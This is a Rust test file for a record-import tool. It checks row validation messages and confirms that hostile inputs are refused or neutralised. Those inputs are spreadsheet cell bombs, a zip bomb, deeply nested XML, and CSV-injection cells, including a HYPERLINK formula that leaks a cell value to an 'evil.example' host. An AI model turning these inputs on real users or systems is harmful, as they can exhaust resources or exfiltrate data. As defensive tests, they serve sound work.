//! Import: every rule for bad input, names in messages, nothing half-written.

use crate::{Dir, project, s};

fn workspace() -> Dir {
    Dir::with_examples()
}

/// The records as an analysis, to tell whether an import changed anything.
fn snapshot(d: &Dir) -> String {
    d.ok(&["analyse", "--format", "json"])
}

/// Imports `text` as `name`, expects failure, and returns the message; checks
/// that the workspace did not change.
fn rejected(name: &str, text: &str) -> String {
    let d = workspace();
    let before = snapshot(&d);
    let file = d.write(name, text);
    let out = d.tana(&["import", s(&file)]);
    assert_eq!(out.status.code(), Some(2), "bad input exits 2");
    assert_eq!(snapshot(&d), before, "a rejected import changes nothing");
    String::from_utf8(out.stderr).unwrap()
}

#[test]
fn unknown_state_is_named_with_file_line_and_column() {
    let msg = rejected(
        "needs.csv",
        "state,cycle,article,type\nKenya,1,16,model_legislation\nAtlantis,1,16,model_legislation\n",
    );
    assert!(
        msg.contains(
            "needs.csv: line 3, column `state`, value `Atlantis`: unknown State `Atlantis`"
        ),
        "{msg}"
    );
    assert!(msg.contains("nothing was written"), "{msg}");
}

#[test]
fn misspelt_state_gets_a_suggestion() {
    let msg = rejected(
        "needs.csv",
        "state,cycle,article,type\nKenyaa,1,16,model_legislation\n",
    );
    assert!(msg.contains("did you mean `Kenya`?"), "{msg}");
}

#[test]
fn article_that_does_not_exist() {
    let msg = rejected(
        "needs.csv",
        "state,cycle,article,type\nKenya,1,99,model_legislation\n",
    );
    assert!(
        msg.contains("line 2, column `article`, value `99`: article 99 does not exist"),
        "{msg}"
    );
}

#[test]
fn article_not_reviewed_in_the_cycle() {
    let msg = rejected(
        "needs.csv",
        "state,cycle,article,type\nKenya,1,5,model_legislation\n",
    );
    assert!(
        msg.contains("article 5 (chapter II) is not reviewed in cycle 1"),
        "{msg}"
    );
}

#[test]
fn unknown_type_suggests_the_meant_one() {
    let msg = rejected(
        "needs.csv",
        "state,cycle,article,type\nKenya,1,16,trainig\n",
    );
    assert!(
        msg.contains("type `trainig` is unknown in cycle 1, did you mean `capacity_building`?"),
        "{msg}"
    );
}

#[test]
fn a_date_that_is_no_date() {
    let msg = rejected(
        "reviews.csv",
        "state,cycle,completed\nKenya,1,2013-02-30\nPeru,1,last year\n",
    );
    assert!(
        msg.contains("line 2, column `completed`, value `2013-02-30`"),
        "{msg}"
    );
    assert!(
        msg.contains("line 3, column `completed`, value `last year`: `last year` is not a date"),
        "{msg}"
    );
}

#[test]
fn a_consent_is_yes_or_no() {
    let msg = rejected(
        "reviews.csv",
        "state,cycle,completed,shared_with_providers\nKenya,1,2013-01-01,perhaps\n",
    );
    assert!(
        msg.contains("line 2, column `shared_with_providers`, value `perhaps`: must be yes or no"),
        "{msg}"
    );
}

#[test]
fn duplicates_name_the_first_row() {
    let msg = rejected(
        "needs.csv",
        "state,cycle,article,type,source\nKenya,1,16,model_legislation,country_report\nKEN,1,16,model_legislation,country_report\n",
    );
    assert!(msg.contains("line 3: duplicate of"), "{msg}");
    assert!(
        msg.contains("line 2 (same State, cycle, article, type and source)"),
        "{msg}"
    );
    let msg = rejected(
        "reviews.csv",
        "state,cycle,completed\nKenya,1,2013-01-01\nkenya,1,2013-01-02\n",
    );
    assert!(msg.contains("line 3, column `state`, value `kenya`: duplicate: the review of this State in cycle 1 is already at"), "{msg}");
}

#[test]
fn every_bad_row_is_reported_not_only_the_first() {
    let msg = rejected(
        "needs.csv",
        "state,cycle,article,type\nAtlantis,1,16,model_legislation\nKenya,1,99,model_legislation\nKenya,7,16,model_legislation\nKenya,1,16,nothing\n",
    );
    assert!(msg.starts_with("error: 4 bad row(s)"), "{msg}");
    for line in ["line 2", "line 3", "line 4", "line 5"] {
        assert!(msg.contains(line), "{line} missing: {msg}");
    }
}

#[test]
fn missing_columns_and_unknown_kinds_are_file_errors() {
    let msg = rejected("needs.csv", "state,cycle,type\nKenya,1,other\n");
    assert!(
        msg.contains("needs.csv: line 1: missing column(s) article"),
        "{msg}"
    );
    let msg = rejected("stuff.csv", "a,b\n1,2\n");
    assert!(msg.contains("cannot tell whether"), "{msg}");
    let msg = rejected("needs.json", "{\"needs\": [ {\"state\": \"Kenya\", ");
    assert!(msg.contains("not valid JSON"), "{msg}");
}

#[test]
fn json_rows_are_named_by_position() {
    let msg = rejected(
        "records.json",
        r#"{"needs": [{"state": "Kenya", "cycle": 1, "article": 16, "type": "other"},
                     {"state": "Kenya", "cycle": 1, "article": 16, "type": "trainig"}]}"#,
    );
    assert!(
        msg.contains("records.json: needs[1], column `type`, value `trainig`"),
        "{msg}"
    );
}

#[test]
fn skipped_bad_rows_go_to_their_own_file() {
    let d = workspace();
    let file = d.write(
        "needs.csv",
        "state,cycle,article,type\nPeru,1,44,other\nAtlantis,1,16,other\n",
    );
    let bad = d.path("bad.csv");
    let out = d.tana(&["import", s(&file), "--skip-bad-rows", s(&bad)]);
    assert!(out.status.success());
    let written = std::fs::read_to_string(&bad).unwrap();
    assert!(
        written.contains("line 3,state,Atlantis,unknown State `Atlantis`"),
        "{written}"
    );
    let json: serde_json::Value =
        serde_json::from_str(&d.ok(&["analyse", "--format", "json"])).unwrap();
    let art44 = json["articles"]
        .as_array()
        .unwrap()
        .iter()
        .find(|a| a["article"] == 44)
        .unwrap();
    assert_eq!(art44["total"]["needs"], 2, "the good row landed");
}

#[test]
fn importing_the_same_files_twice_changes_nothing() {
    let d = workspace();
    let before = snapshot(&d);
    let out = d.tana(&[
        "import",
        s(&project("examples/reviews.csv")),
        s(&project("examples/needs.csv")),
    ]);
    assert!(out.status.success());
    assert!(
        String::from_utf8_lossy(&out.stderr)
            .contains("nothing changed: every record was there already")
    );
    assert_eq!(snapshot(&d), before);
}

#[test]
fn every_format_gives_the_same_records() {
    let from_csv = Dir::new();
    from_csv.ok(&["init"]);
    let csvs = ["reviews", "needs", "challenges", "good_practices"]
        .map(|k| project(&format!("examples/{k}.csv")));
    let args: Vec<&str> = std::iter::once("import")
        .chain(csvs.iter().map(|p| s(p)))
        .collect();
    from_csv.ok(&args);
    let expected = from_csv.ok(&["analyse", "--format", "json"]);
    for file in ["examples/records.json", "examples/records.xlsx"] {
        let d = Dir::new();
        d.ok(&["init"]);
        d.ok(&["import", s(&project(file))]);
        assert_eq!(d.ok(&["analyse", "--format", "json"]), expected, "{file}");
    }
    // Export and import back: nothing lost.
    for format in ["csv", "json", "xlsx"] {
        let out = from_csv.path(&format!("out-{format}"));
        from_csv.ok(&["export", "--format", format, "--out", s(&out)]);
        let d = Dir::new();
        d.ok(&["init"]);
        let files: Vec<String> = std::fs::read_dir(&out)
            .unwrap()
            .map(|e| e.unwrap().path().display().to_string())
            .collect();
        let mut args = vec!["import"];
        args.extend(files.iter().map(String::as_str));
        d.ok(&args);
        assert_eq!(d.ok(&["analyse", "--format", "json"]), expected, "{format}");
        let again = d.path("again");
        d.ok(&["export", "--format", format, "--out", s(&again)]);
        for f in std::fs::read_dir(&out).unwrap() {
            let f = f.unwrap();
            if format != "xlsx" {
                assert_eq!(
                    std::fs::read(f.path()).unwrap(),
                    std::fs::read(again.join(f.file_name())).unwrap(),
                    "export → import → export is stable for {format}"
                );
            }
        }
    }
}

// ------------------------------------------------------------ hostile files

/// Runs `tana import` on a file and expects a refusal: exit 2 (not a signal,
/// not a panic), nothing written; returns standard error.
fn refused_file(d: &Dir, file: &std::path::Path) -> String {
    use std::os::unix::process::ExitStatusExt;
    let before = snapshot(d);
    let out = d.tana(&["import", s(file)]);
    let msg = String::from_utf8_lossy(&out.stderr).to_string();
    assert_eq!(out.status.signal(), None, "killed by a signal: {msg}");
    assert_eq!(out.status.code(), Some(2), "bad input exits 2: {msg}");
    assert!(!msg.contains("panicked"), "{msg}");
    assert_eq!(snapshot(d), before, "a refused import changes nothing");
    msg
}

/// A workbook with a `needs` header and one good row, and `extra` cells.
fn needs_workbook(path: &std::path::Path, extra: impl FnOnce(&mut rust_xlsxwriter::Worksheet)) {
    let mut book = rust_xlsxwriter::Workbook::new();
    let ws = book.add_worksheet();
    ws.set_name("needs").unwrap();
    for (c, h) in ["state", "cycle", "article", "type"].iter().enumerate() {
        ws.write_string(0, c as u16, *h).unwrap();
    }
    ws.write_string(1, 0, "Kenya").unwrap();
    ws.write_number(1, 1, 1).unwrap();
    ws.write_number(1, 2, 16).unwrap();
    ws.write_string(1, 3, "model_legislation").unwrap();
    extra(ws);
    book.save(path).unwrap();
}

#[test]
fn a_cell_at_the_last_row_and_column_is_refused_not_allocated() {
    let d = workspace();
    let bomb = d.path("bomb.xlsx");
    needs_workbook(&bomb, |ws| {
        ws.write_number(1_048_575, 16_383, 1).unwrap();
    });
    assert!(
        std::fs::metadata(&bomb).unwrap().len() < 20_000,
        "a small file"
    );
    let msg = refused_file(&d, &bomb);
    assert!(
        msg.contains("bomb.xlsx: sheet needs, cell XFD1048576"),
        "{msg}"
    );
    assert!(msg.contains("at most 1024 columns"), "{msg}");
    // The same rows with the far cell gone import.
    let fine = d.path("fine.xlsx");
    needs_workbook(&fine, |_| {});
    d.ok(&["import", s(&fine)]);
}

#[test]
fn a_sheet_too_long_or_too_wide_names_its_cell() {
    let d = workspace();
    let long = d.path("long.xlsx");
    needs_workbook(&long, |ws| {
        // 1,048,576 rows by 5 columns: past the cell limit, not the rows'.
        ws.write_number(1_048_575, 4, 1).unwrap();
    });
    let msg = refused_file(&d, &long);
    assert!(msg.contains("cell E1048576"), "{msg}");
    assert!(msg.contains("at most 5000000 cells"), "{msg}");
}

/// Writes a zip of (name, bytes) entries.
fn zip_file(path: &std::path::Path, entries: &[(&str, &[u8])]) {
    use std::io::Write;
    let mut z = zip::ZipWriter::new(std::fs::File::create(path).unwrap());
    let options = zip::write::SimpleFileOptions::default()
        .compression_method(zip::CompressionMethod::Deflated);
    for (name, bytes) in entries {
        z.start_file(*name, options).unwrap();
        z.write_all(bytes).unwrap();
    }
    z.finish().unwrap();
}

fn ods(table: &str) -> Vec<u8> {
    format!(
        r#"<?xml version="1.0" encoding="UTF-8"?>
<office:document-content xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" xmlns:table="urn:oasis:names:tc:opendocument:xmlns:table:1.0" xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0" office:version="1.2"><office:body><office:spreadsheet><table:table table:name="needs">{table}</table:table></office:spreadsheet></office:body></office:document-content>"#
    )
    .into_bytes()
}

fn ods_file(path: &std::path::Path, table: &str) {
    zip_file(
        path,
        &[
            ("mimetype", b"application/vnd.oasis.opendocument.spreadsheet"),
            ("META-INF/manifest.xml", br#"<?xml version="1.0" encoding="UTF-8"?>
<manifest:manifest xmlns:manifest="urn:oasis:names:tc:opendocument:xmlns:manifest:1.0"><manifest:file-entry manifest:full-path="/" manifest:media-type="application/vnd.oasis.opendocument.spreadsheet"/><manifest:file-entry manifest:full-path="content.xml" manifest:media-type="text/xml"/></manifest:manifest>"#),
            ("content.xml", &ods(table)),
        ],
    );
}

fn ods_cell(text: &str) -> String {
    format!(
        r#"<table:table-cell office:value-type="string"><text:p>{text}</text:p></table:table-cell>"#
    )
}

#[test]
fn ods_repeated_cells_are_measured_before_reading() {
    let d = workspace();
    let header: String = ["state", "cycle", "article", "type"].map(ods_cell).concat();
    let good = d.path("good.ods");
    let row = ["Kenya", "1", "16", "model_legislation"]
        .map(ods_cell)
        .concat();
    ods_file(
        &good,
        &format!(
            "<table:table-row>{header}</table:table-row><table:table-row>{row}</table:table-row>"
        ),
    );
    d.ok(&["import", s(&good)]);
    // One text repeated over 16,384 columns and 100,000 rows: 1.6 billion cells.
    let bomb = d.path("bomb.ods");
    ods_file(
        &bomb,
        &format!(
            r#"<table:table-row>{header}</table:table-row><table:table-row table:number-rows-repeated="100000"><table:table-cell table:number-columns-repeated="16384" office:value-type="string"><text:p>x</text:p></table:table-cell></table:table-row>"#
        ),
    );
    let msg = refused_file(&d, &bomb);
    assert!(msg.contains("bomb.ods: sheet needs, cell XFD"), "{msg}");
}

#[test]
fn zip_bombs_and_deep_xml_are_refused() {
    let d = workspace();
    let zeros = vec![0u8; 300 << 20];
    let big = d.path("big.xlsx");
    zip_file(&big, &[("xl/media/zeros.bin", &zeros)]);
    assert!(std::fs::metadata(&big).unwrap().len() < 1 << 20);
    let msg = refused_file(&d, &big);
    assert!(msg.contains("unzips to more than 268435456 bytes"), "{msg}");
    let deep = d.path("deep.ods");
    let nested = format!("{}{}", "<a>".repeat(200), "</a>".repeat(200));
    zip_file(&deep, &[("content.xml", nested.as_bytes())]);
    let msg = refused_file(&d, &deep);
    assert!(msg.contains("deeper than 64 elements"), "{msg}");
}

/// An XLSX file written by hand: one sheet of this XML's rows, as a program
/// that computes no formula writes them.
fn hand_xlsx(path: &std::path::Path, sheet: &str, rows: &str) {
    let rels = r#"<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" Target="xl/workbook.xml"/></Relationships>"#;
    let workbook = format!(
        r#"<?xml version="1.0"?><workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"><sheets><sheet name="{sheet}" sheetId="1" r:id="rId1"/></sheets></workbook>"#
    );
    let book_rels = r#"<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/worksheet" Target="worksheets/sheet1.xml"/></Relationships>"#;
    let types = r#"<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Default Extension="xml" ContentType="application/xml"/><Override PartName="/xl/workbook.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/><Override PartName="/xl/worksheets/sheet1.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"/></Types>"#;
    let data = format!(
        r#"<?xml version="1.0"?><worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>{rows}</sheetData></worksheet>"#
    );
    zip_file(
        path,
        &[
            ("[Content_Types].xml", types.as_bytes()),
            ("_rels/.rels", rels.as_bytes()),
            ("xl/workbook.xml", workbook.as_bytes()),
            ("xl/_rels/workbook.xml.rels", book_rels.as_bytes()),
            ("xl/worksheets/sheet1.xml", data.as_bytes()),
        ],
    );
}

/// A row of inline-text cells (and `<c>` elements as given, for the rest).
fn xlsx_row(row: u32, cells: &[&str]) -> String {
    let cells: String = cells
        .iter()
        .enumerate()
        .map(|(i, c)| {
            let at = format!("{}{row}", (b'A' + i as u8) as char);
            if c.starts_with('<') {
                format!(r#"<c r="{at}">{c}</c>"#)
            } else {
                format!(r#"<c r="{at}" t="inlineStr"><is><t>{c}</t></is></c>"#)
            }
        })
        .collect();
    format!(r#"<row r="{row}">{cells}</row>"#)
}

#[test]
fn a_formula_with_no_saved_value_is_refused_with_its_cell() {
    let d = workspace();
    let book = d.path("needs.xlsx");
    let rows = [
        xlsx_row(1, &["state", "cycle", "article", "type"]),
        xlsx_row(2, &["Kenya", "<v>1</v>", "<v>16</v>", "other"]),
        xlsx_row(3, &["Kenya", "<v>1</v>", "<f>10+7</f>", "other"]),
    ]
    .concat();
    hand_xlsx(&book, "needs", &rows);
    let msg = refused_file(&d, &book);
    assert!(
        msg.contains(
            "sheet needs, row 3, column `article`: the cell holds a formula with no saved value"
        ),
        "{msg}"
    );
    // The same formula with its value saved is read as that value.
    let saved = d.path("saved.xlsx");
    hand_xlsx(
        &saved,
        "needs",
        &rows.replace("<f>10+7</f>", "<f>10+7</f><v>17</v>"),
    );
    d.ok(&["import", s(&saved)]);
    let reviews = d.path("reviews.xlsx");
    hand_xlsx(
        &reviews,
        "reviews",
        &[
            xlsx_row(1, &["state", "cycle", "completed"]),
            xlsx_row(2, &["Kenya", "<v>1</v>", "<f>TODAY()</f>"]),
        ]
        .concat(),
    );
    let msg = refused_file(&d, &reviews);
    assert!(
        msg.contains("row 2, column `completed`: the cell holds a formula with no saved value"),
        "{msg}"
    );
    assert!(
        !msg.contains("is required"),
        "one message for the cell: {msg}"
    );
}

#[test]
fn a_column_named_twice_is_refused_naming_both() {
    let msg = rejected(
        "needs.csv",
        "state,cycle,article,type,Country\nKenya,1,16,other,Peru\n",
    );
    assert!(
        msg.contains("needs.csv: line 1: columns 1 (`state`) and 5 (`Country`) both name `state`"),
        "{msg}"
    );
}

#[test]
fn lines_ending_in_a_lone_carriage_return_are_counted() {
    let msg = rejected(
        "needs.csv",
        "state,cycle,article,type\rKenya,1,16,other\rAtlantis,1,16,other\r",
    );
    assert!(
        msg.contains("needs.csv: line 3, column `state`, value `Atlantis`"),
        "{msg}"
    );
    // Lone CRs still read as lines, and CRLF is unchanged.
    let d = workspace();
    let f = d.write(
        "needs.csv",
        "state,cycle,article,type\r\nPeru,1,44,other\r\n",
    );
    d.ok(&["import", s(&f)]);
    let f = d.write("needs.csv", "state,cycle,article,type\rPeru,1,46,other\r");
    d.ok(&["import", s(&f)]);
}

#[test]
fn a_negative_article_is_named_as_written() {
    let msg = rejected("needs.csv", "state,cycle,article,type\nKenya,1,-1,other\n");
    assert!(
        msg.contains("column `article`, value `-1`: an article is a number"),
        "{msg}"
    );
    assert!(!msg.contains("article 1 "), "{msg}");
}

#[test]
fn json_with_a_byte_order_mark_is_read() {
    let d = workspace();
    let before = snapshot(&d);
    let f = d.write(
        "needs.json",
        "\u{feff}[{\"state\": \"Peru\", \"cycle\": 1, \"article\": 44, \"type\": \"other\"}]",
    );
    d.ok(&["import", s(&f)]);
    assert_ne!(snapshot(&d), before, "the need landed");
}

#[test]
fn json_and_tables_that_are_not_utf8_name_the_byte() {
    let d = workspace();
    let f = d.path("needs.json");
    std::fs::write(&f, b"[{\"state\": \"Per\xff\"}]").unwrap();
    let msg = refused_file(&d, &f);
    assert!(
        msg.contains("needs.json: line 1, byte 15: the text is not UTF-8"),
        "{msg}"
    );
    let t = d.path("doc.tables.toml");
    std::fs::write(&t, b"[document]\ncycle = 1\ntitle = \"\xc3\"\n").unwrap();
    let out = d.tana(&["audit", s(&t)]);
    let msg = String::from_utf8_lossy(&out.stderr);
    assert_eq!(out.status.code(), Some(2), "{msg}");
    assert!(
        msg.contains("line 3, byte 30: the text is not UTF-8"),
        "{msg}"
    );
}

#[test]
fn control_characters_in_a_cell_are_refused() {
    let msg = rejected(
        "needs.csv",
        "state,cycle,article,type\nViet\0Nam,1,16,other\n",
    );
    assert!(
        msg.contains("line 2, column `state`, value `Viet\\0Nam`: the cell holds the control character U+0000"),
        "{msg}"
    );
}

#[test]
fn import_errors_are_json_when_asked() {
    let d = workspace();
    let f = d.write(
        "needs.csv",
        "state,cycle,article,type\nAtlantis,1,16,other\n",
    );
    let out = d.tana(&["import", "--format", "json", s(&f)]);
    assert_eq!(out.status.code(), Some(2));
    let v: serde_json::Value = serde_json::from_slice(&out.stdout).expect("JSON on stdout");
    assert_eq!(v["bad_rows"][0]["place"], "line 2");
    assert_eq!(v["bad_rows"][0]["column"], "state");
    assert_eq!(v["bad_rows"][0]["value"], "Atlantis");
    let f = d.write("needs.csv", "state,cycle\nKenya,1\n");
    let out = d.tana(&["import", "--format", "json", s(&f)]);
    assert_eq!(out.status.code(), Some(2));
    let v: serde_json::Value = serde_json::from_slice(&out.stdout).expect("JSON on stdout");
    assert!(
        v["error"]
            .as_str()
            .unwrap()
            .contains("missing column(s) article"),
        "{v}"
    );
}

/// A legacy Excel file (BIFF8 records in an OLE compound file), written by
/// hand: a workbook BOF, one sheet, and these cell records after it.
fn hand_xls(path: &std::path::Path, cells: &[(u16, u16)]) {
    let record = |kind: u16, data: &[u8]| {
        let mut r = kind.to_le_bytes().to_vec();
        r.extend((data.len() as u16).to_le_bytes());
        r.extend(data);
        r
    };
    let bof = |dt: u16| record(0x0809, &[&[0, 6][..], &dt.to_le_bytes(), &[0; 12]].concat());
    let mut globals = bof(0x0005);
    let sheet_name = b"needs";
    // The sheet's BOF comes after this BOUNDSHEET record and the EOF.
    let sheet_at = (globals.len() + 4 + 8 + sheet_name.len() + 4) as u32;
    let mut data = sheet_at.to_le_bytes().to_vec();
    data.extend([0, 0, sheet_name.len() as u8, 0]);
    data.extend(sheet_name);
    globals.extend(record(0x0085, &data));
    globals.extend(record(0x000A, &[]));
    let mut stream = globals;
    stream.extend(bof(0x0010));
    for &(row, column) in cells {
        let mut number = row.to_le_bytes().to_vec();
        number.extend(column.to_le_bytes());
        number.extend([0, 0]);
        number.extend(1.0f64.to_le_bytes());
        stream.extend(record(0x0203, &number));
    }
    stream.extend(record(0x000A, &[]));
    // Past the mini-stream cut-off, so that the stream has sectors of its own.
    while stream.len() < 4096 {
        stream.extend(record(0x003C, &[0; 100]));
    }
    let length = stream.len();
    stream.resize(length.div_ceil(512) * 512, 0);
    let n = stream.len() / 512;
    let u32s = |v: &[u32]| v.iter().flat_map(|x| x.to_le_bytes()).collect::<Vec<u8>>();
    let mut header = vec![0u8; 512];
    header[..8].copy_from_slice(&[0xD0, 0xCF, 0x11, 0xE0, 0xA1, 0xB1, 0x1A, 0xE1]);
    header[0x18..0x20].copy_from_slice(&[0x3E, 0, 3, 0, 0xFE, 0xFF, 9, 0]);
    header[0x20] = 6;
    header[0x2C..0x50].copy_from_slice(&u32s(&[1, 1, 0, 4096, 0xFFFF_FFFE, 0, 0xFFFF_FFFE, 0, 0]));
    header[0x50..].copy_from_slice(&u32s(&[0xFFFF_FFFF; 108]));
    let mut fat = vec![0xFFFF_FFFD, 0xFFFF_FFFE];
    fat.extend((0..n as u32).map(|i| {
        if i + 1 == n as u32 {
            0xFFFF_FFFE
        } else {
            i + 3
        }
    }));
    fat.resize(128, 0xFFFF_FFFF);
    let entry = |name: &str, kind: u8, start: u32, size: u32| {
        let mut e = vec![0u8; 128];
        let units: Vec<u8> = name
            .encode_utf16()
            .chain([0])
            .flat_map(u16::to_le_bytes)
            .collect();
        e[..units.len()].copy_from_slice(&units);
        e[64..66].copy_from_slice(&(units.len() as u16).to_le_bytes());
        e[66] = kind;
        e[68..80].copy_from_slice(&u32s(&[0xFFFF_FFFF; 3]));
        e[116..124].copy_from_slice(&u32s(&[start, size]));
        e
    };
    let mut directory = entry("Root Entry", 5, 0xFFFF_FFFE, 0);
    directory.extend(entry("Workbook", 2, 2, length as u32));
    directory.resize(512, 0);
    let file = [header, u32s(&fat), directory, stream].concat();
    std::fs::write(path, file).unwrap();
}

#[test]
fn xls_cells_are_measured_before_the_workbook_is_opened() {
    let d = workspace();
    let bomb = d.path("bomb.xls");
    hand_xls(&bomb, &[(0, 0), (65_535, 255)]);
    let msg = refused_file(&d, &bomb);
    assert!(msg.contains("bomb.xls: sheet needs, cell IV65536"), "{msg}");
    assert!(msg.contains("at most 5000000 cells"), "{msg}");
}

// ------------------------------------------------------------ CSV injection

#[test]
fn exported_csv_cells_never_start_a_formula_and_import_back_the_same() {
    let d = workspace();
    let texts = [
        "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"click\")",
        "+1+1",
        "-2+3",
        "@SUM(A1:A2)",
        "plain words",
    ];
    let mut csv = String::from("state,cycle,article,type,source,text\n");
    for (i, t) in texts.iter().enumerate() {
        let kind = [
            "model_legislation",
            "other",
            "capacity_building",
            "action_plan",
        ][i % 4];
        let article = 15 + i;
        csv.push_str(&format!(
            "Peru,1,{article},{kind},country_report,\"{}\"\n",
            t.replace('"', "\"\"")
        ));
    }
    let f = d.write("needs.csv", &csv);
    d.ok(&["import", s(&f)]);
    let out = d.path("out");
    d.ok(&["export", "--format", "csv", "--out", s(&out)]);
    let mut seen = Vec::new();
    for file in std::fs::read_dir(&out).unwrap() {
        let mut r = csv::Reader::from_path(file.unwrap().path()).unwrap();
        for record in r.records() {
            for cell in record.unwrap().iter() {
                assert!(
                    !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
                    "a cell a spreadsheet would run: {cell:?}"
                );
                seen.push(cell.to_string());
            }
        }
    }
    for t in texts {
        let quoted = if t == "plain words" {
            t.to_string()
        } else {
            format!("'{t}")
        };
        assert!(
            seen.contains(&quoted),
            "{quoted:?} written as text: {seen:?}"
        );
    }
    // Imported back, the texts are as they were typed.
    let back = Dir::new();
    back.ok(&["init"]);
    let files: Vec<String> = std::fs::read_dir(&out)
        .unwrap()
        .map(|e| e.unwrap().path().display().to_string())
        .collect();
    let mut args = vec!["import"];
    args.extend(files.iter().map(String::as_str));
    back.ok(&args);
    let json = |dir: &Dir| {
        let o = dir.path("json");
        dir.ok(&["export", "--format", "json", "--out", s(&o)]);
        std::fs::read_to_string(o.join("records.json")).unwrap()
    };
    let (before, after) = (json(&d), json(&back));
    assert_eq!(before, after, "the same records after a CSV round trip");
    for t in texts {
        let as_json = serde_json::to_string(t).unwrap();
        assert!(after.contains(&as_json), "{t:?} kept as typed");
    }
}

#[test]
fn the_neutralising_rule_is_one_function() {
    use tana::export::{neutralise, unneutralise};
    for (text, written) in [
        ("=1+2", "'=1+2"),
        ("+44 20", "'+44 20"),
        ("-x", "'-x"),
        ("@me", "'@me"),
        ("\tx", "'\tx"),
        ("\rx", "'\rx"),
        ("'=x", "''=x"),
        ("x=1", "x=1"),
        ("'quoted'", "'quoted'"),
        ("", ""),
    ] {
        assert_eq!(neutralise(text), written, "{text:?}");
        assert_eq!(unneutralise(written), text, "{written:?}");
    }
}
